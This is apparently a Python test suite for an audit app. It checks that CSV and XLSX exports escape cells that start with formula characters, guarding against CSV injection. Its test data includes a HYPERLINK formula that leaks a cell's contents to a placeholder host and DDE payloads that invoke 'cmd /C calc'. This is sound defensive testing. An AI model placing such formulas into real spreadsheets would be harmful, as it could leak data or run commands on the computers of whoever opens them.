"""No CSV or XLSX the app writes carries a formula (issue 22, item 3; OWASP "CSV
injection"): text starting with = + - @ tab or carriage return gets a leading
single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from audit_app.services import questionnaire_import as importing
from audit_app.services.spreadsheets import FORMULA_START, csv_text, safe_cell
from tests.visit import Visitor
from tests.web.conftest import Cast
from tests.web.test_questionnaires import (
    _answer,
    _answer_all,
    _definition,
    _mapping,
    _open,
    _upload,
)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'
IMPORTED = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def cells_of(response: Any) -> list[Any]:
    """Every cell of a CSV or XLSX download; asserts none is a formula on the way."""
    body = response.get_data()
    if response.mimetype == XLSX:
        book = load_workbook(io.BytesIO(body))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"formula cells {formulas}"
        values = [cell.value for cell in cells]
        runnable = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_START)]
    else:
        values = [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]
        # A CSV has no types: a cell is a number if it reads as one (a negative amount).
        runnable = [v for v in values if v.startswith(FORMULA_START) and not _is_number(v)]
    assert runnable == [], f"cells a spreadsheet would run: {runnable}"
    return values


def _results(visitor: Visitor, audit_id: int, questionnaire_id: int) -> dict[str, list[Any]]:
    base = f"/audits/{audit_id}/questionnaires/{questionnaire_id}"
    found = {}
    for name in ("results.csv", "results.xlsx"):
        response = visitor.client.get(f"{base}/{name}")
        assert response.status_code == 200, name
        found[name] = cells_of(response)
    return found


# --- seen 3 ----------------------------------------------------------------------


def test_a_hostile_answer_through_the_public_link_is_text_in_the_results(
    app: Flask, as_lead: Visitor, cast: Cast
) -> None:
    questionnaire_id, token = _open(app, cast.draft.id)
    definition = _definition(app, questionnaire_id)
    for _ in range(5):  # enough answers that no group is too small to show
        carer = Visitor(app.test_client())
        _answer_all(carer, f"/survey/{token}", definition, _answer(one_change=HYPERLINK))
    for name, values in _results(as_lead, cast.draft.id, questionnaire_id).items():
        assert "'" + HYPERLINK in values, name


def test_imported_answers_starting_with_plus_minus_or_at_are_text_in_the_results(
    app: Flask, as_lead: Visitor, cast: Cast
) -> None:
    questionnaire_id, _ = _open(app, cast.draft.id)
    definition = _definition(app, questionnaire_id)
    base = f"/audits/{cast.draft.id}/questionnaires/{questionnaire_id}"
    answers = [_answer(one_change=text) for text in IMPORTED * 2]
    columns = _upload(as_lead, base, importing.responses_csv(definition, answers))
    assert columns.status == 302
    where = columns.response.headers["Location"]
    mapping = _mapping(as_lead.get(where))
    assert as_lead.post(where, mapping, follow=True, status=200).h1 == "Imported"
    for name, values in _results(as_lead, cast.draft.id, questionnaire_id).items():
        for text in IMPORTED:
            assert "'" + text in values, (name, text)


# --- the function ------------------------------------------------------------------


@given(st.text())
def test_safe_cell_leaves_no_text_a_spreadsheet_would_run(text: str) -> None:
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_START)
    assert safe in (text, "'" + text)  # nothing is lost: the quote only shows it is text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers(number: Any) -> None:
    assert safe_cell(number) is number


def test_csv_text_quotes_every_cell_that_would_run() -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["=1+1", "\tx", "\rx", "plain", -5]]))))
    assert rows == [["'=1+1", "'\tx", "'\rx", "plain", "-5"]]
